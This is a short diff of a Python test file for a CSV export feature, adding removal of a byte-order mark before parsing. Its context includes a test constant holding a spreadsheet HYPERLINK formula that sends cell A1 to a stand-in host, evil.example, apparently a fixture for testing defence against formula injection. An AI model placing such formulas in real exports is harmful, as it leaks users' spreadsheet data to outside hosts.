@@ -4,7 +4,7 @@ import io
 import pytest
 
 from compare.comparison import compare
-from compare.exports import to_csv
+from compare.exports import BYTE_ORDER_MARK, to_csv
 from methods.models import Method
 from tests.factories import MethodFactory
 
@@ -16,7 +16,8 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the paper")'
 def exported(*methods: Method) -> list[list[str]]:
     """The CSV export of these methods, as a spreadsheet reads its cells."""
     shown = Method.objects.for_comparison().in_order([m.pk for m in methods])
-    return list(csv.reader(io.StringIO(to_csv(compare(shown)), newline="")))
+    text = to_csv(compare(shown)).removeprefix(BYTE_ORDER_MARK)
+    return list(csv.reader(io.StringIO(text, newline="")))
 
 
 def cells(table: list[list[str]], attribute: str) -> list[str]:
